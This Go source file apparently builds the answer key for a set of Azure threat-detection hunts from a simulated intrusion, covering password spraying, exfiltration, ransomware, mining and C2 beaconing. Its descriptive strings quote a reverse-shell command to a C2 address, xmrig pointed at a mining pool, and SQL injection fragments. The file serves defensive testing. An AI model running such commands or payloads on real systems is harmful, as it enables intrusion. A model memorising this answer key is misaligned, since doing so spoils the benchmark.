package sample

import (
	"fmt"
	"math"
	"regexp"
	"sort"
	"strconv"
	"strings"
)

// The Azure hunts' ground truth, computed from the rows written with each
// hunt's rule and default parameters (the shared hunt spec). Hunts that
// report rows, not groups, must find each key once: a key two rows share
// would make a hunt report it twice, so that is an error here.

// Default parameters of the Azure hunts.
const (
	azRetrievalMinBytes = 10000000
	azExfilMinBytes     = 100000000
	azStagingMinBytes   = 100000000
	azSSHMinAttempts    = 10
	azSigninMinFailures = 10
	azScanMinPorts      = 20
	azFlowsTop          = 5
	azSQLMinLength      = 1000
	azC2MinMinutes      = 30
	azC2MaxJitter       = 0.2
)

// Read operations az-file-retrieval sums.
var azReadOps = map[string]bool{"GetBlob": true, "GetFile": true, "QueryEntities": true, "GetMessages": true}

func regexpMust(s string) *regexp.Regexp { return regexp.MustCompile(s) }

var sshFrom = regexp.MustCompile(`from (\S+) port`)

// truthSet collects one hunt's keys.
type truthSet struct {
	id   string
	keys map[string]bool
	dup  string // a key added twice, for hunts that report rows
}

func newTruthSet(id string) *truthSet { return &truthSet{id: id, keys: map[string]bool{}} }

func (s *truthSet) row(parts ...string) {
	k := strings.Join(parts, "|")
	if s.keys[k] && s.dup == "" {
		s.dup = k
	}
	s.keys[k] = true
}

func (s *truthSet) group(parts ...string) { s.keys[strings.Join(parts, "|")] = true }

// azureTruth returns the ground truth of every Azure hunt that has a
// detection.
func azureTruth(w *azWorld, o *azOut) (map[string]HuntTruth, error) {
	out := map[string]HuntTruth{}
	var errs []string
	put := func(s *truthSet, key []string, ranked bool, story string) {
		if s.dup != "" {
			errs = append(errs, fmt.Sprintf("%s: two rows share the key %q", s.id, s.dup))
		}
		if len(s.keys) == 0 {
			errs = append(errs, s.id+": nothing to find")
		}
		out[s.id] = HuntTruth{Key: key, Expect: sortedKeys(s.keys), Ranked: ranked, Story: story}
	}

	// Identity.
	s := newTruthSet("az-suspicious-cloud-accounts")
	for _, b := range o.behavior {
		if b.flagged {
			s.row(b.s.user.upn, b.s.ip)
		}
	}
	put(s, []string{"UserPrincipalName", "SourceIPAddress"}, false, fmt.Sprintf(
		"UEBA flags %s's sign-in from %s (Amsterdam): a country neither she nor her peers connect from; %d other sign-ins carry no such flag.",
		w.victim.upn, w.sprayIP, len(o.behavior)-1))

	s = newTruthSet("az-inventory-roles")
	readers := 0
	for _, a := range o.roles {
		if privilegedRoles[a.role] {
			s.row(a.principalName, a.role, a.scope)
		} else {
			readers++
		}
	}
	put(s, []string{"principalName", "roleDefinitionName", "scope"}, false, fmt.Sprintf(
		"The privileged assignments: the admin's Owner, a break-glass User Access Administrator, DevOps' Contributor on rg-prod, and the Owner on the subscription %s granted herself at 09:07 on the attack day; %d Reader and data-reader assignments are not privileged.",
		w.victim.upn, readers))

	s = newTruthSet("az-user-groups")
	for _, a := range o.audits {
		if groupChanges[a.activity] {
			s.row(a.id)
		}
	}
	put(s, []string{"Id"}, false, fmt.Sprintf(
		"%s adds herself to %s at 09:05 from the sprayed account; the admin's other directory changes (user updates, group updates, removals) are not group additions.",
		w.victim.upn, w.adminGroup))

	// Signs-ins: failures per address.
	failures, users := map[string]int{}, map[string]map[string]bool{}
	for _, si := range o.signins {
		if si.errorCode != 0 {
			failures[si.ip]++
			if users[si.ip] == nil {
				users[si.ip] = map[string]bool{}
			}
			users[si.ip][si.user.upn] = true
		}
	}
	s = newTruthSet("az-signin-activity")
	for _, si := range o.signins {
		if si.errorCode == 0 && failures[si.ip] >= azSigninMinFailures {
			s.row(si.id)
		}
	}
	benignMax := 0
	for ip, n := range failures {
		if ip != w.sprayIP {
			benignMax = max(benignMax, n)
		}
	}
	put(s, []string{"Id"}, false, fmt.Sprintf(
		"%s fails %d password sign-ins against %d users, then signs in as %s three times (portal at 08:56 and 09:01, Azure CLI at 09:02); no other address fails more than %d times.",
		w.sprayIP, failures[w.sprayIP], len(users[w.sprayIP]), w.victim.upn, benignMax))

	s = newTruthSet("az-failed-password")
	for ip, n := range failures {
		if n >= azSigninMinFailures {
			s.group(ip)
		}
	}
	put(s, []string{"IPAddress"}, false, fmt.Sprintf(
		"The password spray: %s fails %d times across %d distinct users in fifteen minutes; users mistyping their password at home or at the office fail at most %d times from one address.",
		w.sprayIP, failures[w.sprayIP], len(users[w.sprayIP]), benignMax))

	// The activity log.
	miIDs := map[string]bool{}
	for _, si := range o.miSignins {
		miIDs[si.mi.spID] = true
	}
	creation, deletion, updates, runs, mi := newTruthSet("az-instance-creation"), newTruthSet("az-instance-deletion"),
		newTruthSet("az-instance-updates"), newTruthSet("az-command-execution"), newTruthSet("az-managed-identity-usage")
	written := map[string]bool{}
	for _, e := range o.activity { // in time order
		ok := e.status == "Succeeded"
		rid := strings.ToLower(e.resourceID) // _ResourceId, as Log Analytics writes it
		switch {
		case strings.EqualFold(e.op, opVMWrite) && ok:
			if !written[rid] {
				creation.row(rid)
			} else {
				updates.row(e.corr)
			}
			written[rid] = true
		case strings.EqualFold(e.op, opVMExtension) && ok:
			updates.row(e.corr)
		case strings.EqualFold(e.op, opVMDelete) && ok:
			deletion.row(rid)
		case strings.EqualFold(e.op, opRunCommand):
			runs.row(e.corr)
		}
		if miIDs[e.caller] && e.ip != "" {
			mi.row(e.corr)
		}
	}
	put(creation, []string{"_ResourceId"}, false, fmt.Sprintf(
		"The first successful write of each VM in the case: %s creates %s at 09:11 from %s; the admin's first writes of the existing VMs during the week count too (failed writes and Started events do not).",
		w.victim.upn, w.buildVM.name, w.sprayIP))
	put(deletion, []string{"_ResourceId"}, false, fmt.Sprintf(
		"%s deletes %s at 12:00 from %s: an account that never managed VMs before.", w.victim.upn, w.legacyVM.name, w.sprayIP))
	put(updates, []string{"CorrelationId"}, false, fmt.Sprintf(
		"%s updates %s at 09:25 and adds a CustomScript extension at 09:26; the admin's later writes of the same VMs are updates too.",
		w.victim.upn, w.buildVM.name))
	put(runs, []string{"CorrelationId"}, false, fmt.Sprintf(
		"%s runs commands on %s at 09:30 (succeeded) and 09:31 (failed), from %s.", w.victim.upn, w.webVM.name, w.sprayIP))
	put(mi, []string{"CorrelationId"}, false, fmt.Sprintf(
		"%s's managed identity token, issued at 09:38, lists the keys of two storage accounts and creates container backup-tmp from %s; the identities' everyday calls from inside Azure carry no caller address.",
		w.webVM.name, w.miIP))

	// Storage.
	type group struct{ ip, account, op string }
	sums := map[group]int64{}
	blobOut, blobIn := map[string]int64{}, map[group]int64{}
	files := newTruthSet("az-file-creation")
	for _, st := range o.storage {
		g := group{st.ip, st.account, st.op}
		sums[g] += st.respBytes
		if st.service == "blob" && st.op == "GetBlob" {
			blobOut[st.ip] += st.respBytes
		}
		if st.service == "blob" && (st.op == "PutBlob" || st.op == "PutBlock") {
			blobIn[group{st.ip, "", st.op}] += st.reqBytes
		}
		if st.service == "file" && st.op == "CreateFile" {
			files.row(st.uri)
		}
	}
	retrieval, exfil, staging := newTruthSet("az-file-retrieval"), newTruthSet("az-data-exfiltration"), newTruthSet("az-data-staging")
	for g, n := range sums {
		switch {
		case azReadOps[g.op] && n >= azRetrievalMinBytes:
			retrieval.group(g.ip, g.account, g.op)
		case !azReadOps[g.op] && n >= azRetrievalMinBytes:
			errs = append(errs, fmt.Sprintf("az-file-retrieval: %s's %s responses add up to %d bytes; only the listed read operations may", g.ip, g.op, n))
		}
	}
	for ip, n := range blobOut {
		if n >= azExfilMinBytes {
			exfil.group(ip, "GetBlob")
		}
	}
	for g, n := range blobIn {
		if n >= azStagingMinBytes {
			staging.group(g.ip, g.op)
		}
	}
	put(retrieval, []string{"SourceIP", "AccountName", "OperationName"}, false, fmt.Sprintf(
		"%s downloads %d MB from stcontosodata; the backup runner (10.20.5.10) reads %d MB of nightly exports; app clients read a few MB each.",
		w.exfilIP, blobOut[w.exfilIP]/1000000, blobOut["10.20.5.10"]/1000000))
	put(files, []string{"Uri"}, false, fmt.Sprintf(
		"Every file created on the share: people's reports all week, and the ransom notes HOW_TO_RESTORE_FILES.txt that %s drops in three folders at 11:40 with the stolen account key.", w.miIP))
	put(exfil, []string{"SourceIP", "OperationName"}, false, fmt.Sprintf(
		"%s downloads %d MB (the staged dump and customer exports) between 11:00 and 11:20; the backup runner's %d MB in a week stays under 100 MB.",
		w.exfilIP, blobOut[w.exfilIP]/1000000, blobOut["10.20.5.10"]/1000000))
	put(staging, []string{"SourceIP", "OperationName"}, false, fmt.Sprintf(
		"%s (%s) uploads a %d MB database dump to container backup-tmp in 4 MiB blocks at 10:30.",
		w.webVM.name, w.webVM.privateIP, blobIn[group{w.webVM.privateIP, "", "PutBlock"}]/1000000))

	// Containers, alerts, baseline, SQL.
	s = newTruthSet("az-deployed-containers")
	miner := 0
	for _, c := range o.containers {
		s.row(c.group, c.message)
		if c.group == "cg-batch-worker" {
			miner++
		}
	}
	put(s, []string{"ContainerGroup_s", "Message"}, false, fmt.Sprintf(
		"Every container log line: cg-batch-worker, deployed by %s at 09:50, runs xmrig against pool.supportxmr.com (%d lines); cg-nightly-report is the benign nightly job.",
		w.victim.upn, miner))

	s = newTruthSet("az-reverse-shell")
	for _, a := range o.alerts {
		if a.display == "Possible reverse shell" {
			s.row(a.id)
		}
	}
	put(s, []string{"SystemAlertId"}, false, fmt.Sprintf(
		"Defender sees bash -i >& /dev/tcp/%s/443 on %s at 06:40, right after the SSH brute force; the dismissed 'Potential reverse shell activity detected (Preview)' alert is another title.",
		w.c2IP, w.webVM.name))

	s = newTruthSet("az-vuln-vms")
	for _, b := range o.baseline {
		if b.failed && (b.severity == "Critical" || b.severity == "Important") {
			s.row(b.vm.name, b.cce)
		}
	}
	put(s, []string{"Computer", "CceId"}, false, fmt.Sprintf(
		"%s fails its critical and important baseline rules (SSH password authentication and root login allowed, firewall off) — how the brute force got in; %s fails only warning and informational rules.",
		w.webVM.name, w.jumpVM.name))

	s = newTruthSet("az-database-scanning")
	for _, e := range o.sqlAudit {
		if e.action == "BCM " && (len(e.statement) >= azSQLMinLength || sqlInjection.MatchString(e.statement)) {
			s.row(e.ip, e.statement)
		}
	}
	put(s, []string{"client_ip_s", "statement_s"}, false, fmt.Sprintf(
		"sqlmap from %s at 13:00: OR 1=1, UNION SELECT, WAITFOR DELAY, xp_cmdshell and a %d-character CHAR() payload; its plain probe, the app's UNION ALL query and a long report under 1000 characters are not findings.",
		w.sqlIP, func() int {
			n := 0
			for _, e := range o.sqlAudit {
				if e.ip == w.sqlIP {
					n = max(n, len(e.statement))
				}
			}
			return n
		}()))

	// Linux authentication.
	s = newTruthSet("az-ssh-bruteforce")
	attempts := map[string]int{}
	for _, l := range o.authLines {
		low := strings.ToLower(l.msg)
		if !strings.Contains(low, "failed password") && !strings.Contains(low, "invalid user") {
			continue
		}
		m := sshFrom.FindStringSubmatch(l.msg)
		if m == nil {
			errs = append(errs, "az-ssh-bruteforce: a counted line names no address: "+l.raw())
			continue
		}
		attempts[l.host+"|"+m[1]]++
	}
	for k, n := range attempts {
		if n >= azSSHMinAttempts {
			s.group(k)
		}
	}
	put(s, []string{"Computer", "SourceIP"}, false, fmt.Sprintf(
		"%s fails %d times against %s's SSH (invalid and real users) before getting in as azureuser at 06:25; an admin's %d typos on %s stay under 10.",
		w.sshIP, attempts[w.webVM.name+"|"+w.sshIP], w.webVM.name, attempts[w.jumpVM.name+"|"+w.officeIP], w.jumpVM.name))

	// Network.
	if err := w.networkTruth(o, put); err != nil {
		errs = append(errs, err.Error())
	}
	// Mail.
	if err := w.mailTruth(o, put); err != nil {
		errs = append(errs, "mail: "+err.Error())
	}
	if len(errs) > 0 {
		sort.Strings(errs)
		return nil, fmt.Errorf("sample: Azure ground truth: %s", strings.Join(errs, "; "))
	}
	return out, nil
}

// networkTruth computes the three flow-log hunts.
func (w *azWorld) networkTruth(o *azOut, put func(*truthSet, []string, bool, string)) error {
	inPorts := map[string]map[int]bool{}
	all, allowed := map[string]int{}, map[string]int{}
	type pair struct {
		ip   string
		port int
	}
	minutes := map[pair]map[int64]bool{}
	for _, f := range o.tuples {
		ip := f.publicEnd()
		all[ip]++
		if f.decision == 'A' {
			allowed[ip]++
		}
		if f.dir == 'I' {
			if inPorts[ip] == nil {
				inPorts[ip] = map[int]bool{}
			}
			inPorts[ip][f.dport] = true
		} else {
			p := pair{ip, f.dport}
			if minutes[p] == nil {
				minutes[p] = map[int64]bool{}
			}
			minutes[p][f.t.Unix()/60] = true
		}
	}
	scan := newTruthSet("az-network-scanning")
	for ip, ports := range inPorts {
		if len(ports) >= azScanMinPorts {
			scan.group(ip)
		}
	}
	put(scan, []string{"PublicIP"}, false, fmt.Sprintf(
		"%s probes %d ports of %s at 05:30 (all but 22, 80 and 443 denied); web clients reach two ports.", w.scanIP, len(inPorts[w.scanIP]), w.webVM.name))

	// az-network-flows: the top public addresses by flow count. The
	// attack's addresses must rank in the top 5 whether the hunt counts
	// every tuple or only allowed ones.
	top := func(counts map[string]int) map[string]int {
		ips := make([]string, 0, len(counts))
		for ip := range counts {
			ips = append(ips, ip)
		}
		sort.Slice(ips, func(i, j int) bool {
			if counts[ips[i]] != counts[ips[j]] {
				return counts[ips[i]] > counts[ips[j]]
			}
			return ips[i] < ips[j]
		})
		rank := map[string]int{}
		for i, ip := range ips {
			rank[ip] = i + 1
		}
		return rank
	}
	rankAll, rankAllowed := top(all), top(allowed)
	flows := newTruthSet("az-network-flows")
	for _, ip := range []string{w.c2IP, w.sshIP} {
		if r1, r2 := rankAll[ip], rankAllowed[ip]; r1 > azFlowsTop || r2 > azFlowsTop {
			return fmt.Errorf("az-network-flows: %s ranks %d (all flows) and %d (allowed flows), outside the top %d", ip, r1, r2, azFlowsTop)
		}
	}
	for _, f := range o.tuples {
		if ip := f.publicEnd(); f.decision == 'A' && (ip == w.c2IP || ip == w.sshIP) {
			flows.group(ip, string(f.dir), l7Protocol(f.dport), string(f.proto), strconv.Itoa(f.dport))
		}
	}
	put(flows, []string{"PublicIP", "FlowDirection_s", "L7Protocol_s", "L4Protocol_s", "DestPort_d"}, true, fmt.Sprintf(
		"The busiest public addresses include the C2 %s (%d flow tuples, rank %d) and the SSH brute forcer %s (%d, rank %d): their allowed flows must be among the rows.",
		w.c2IP, all[w.c2IP], rankAll[w.c2IP], w.sshIP, all[w.sshIP], rankAll[w.sshIP]))

	// az-c2-traffic: regular outbound rhythm. The decision must not hinge
	// on whether the hunt's standard deviation is the population's or the
	// sample's.
	c2 := newTruthSet("az-c2-traffic")
	var pairs []pair
	for p := range minutes {
		pairs = append(pairs, p)
	}
	sort.Slice(pairs, func(i, j int) bool {
		return pairs[i].ip < pairs[j].ip || pairs[i].ip == pairs[j].ip && pairs[i].port < pairs[j].port
	})
	for _, p := range pairs {
		if len(minutes[p]) < azC2MinMinutes {
			continue
		}
		pop, smp := gapJitter(minutes[p])
		if (pop <= azC2MaxJitter) != (smp <= azC2MaxJitter) {
			return fmt.Errorf("az-c2-traffic: %s:%d's jitter is %.3f or %.3f, too close to %g", p.ip, p.port, pop, smp, azC2MaxJitter)
		}
		if pop <= azC2MaxJitter {
			c2.group(p.ip, strconv.Itoa(p.port))
		}
	}
	put(c2, []string{"PublicIP", "DestPort_d"}, false, fmt.Sprintf(
		"%s beacons to %s:443 every minute from 06:45 to 08:14 (%d active minutes, no gaps); a telemetry endpoint reached in 60 random minutes of the week has no rhythm.",
		w.webVM.name, w.c2IP, len(minutes[pair{w.c2IP, 443}])))
	return nil
}

// gapJitter is the coefficient of variation of the gaps between
// consecutive active minutes, with the population and the sample standard
// deviation.
func gapJitter(active map[int64]bool) (pop, smp float64) {
	ms := make([]int64, 0, len(active))
	for m := range active {
		ms = append(ms, m)
	}
	sort.Slice(ms, func(i, j int) bool { return ms[i] < ms[j] })
	gaps := make([]float64, 0, len(ms))
	sum := 0.0
	for i := 1; i < len(ms); i++ {
		g := float64(ms[i] - ms[i-1])
		gaps = append(gaps, g)
		sum += g
	}
	if len(gaps) < 2 {
		return math.Inf(1), math.Inf(1)
	}
	mean := sum / float64(len(gaps))
	ss := 0.0
	for _, g := range gaps {
		ss += (g - mean) * (g - mean)
	}
	return math.Sqrt(ss/float64(len(gaps))) / mean, math.Sqrt(ss/float64(len(gaps)-1)) / mean
}
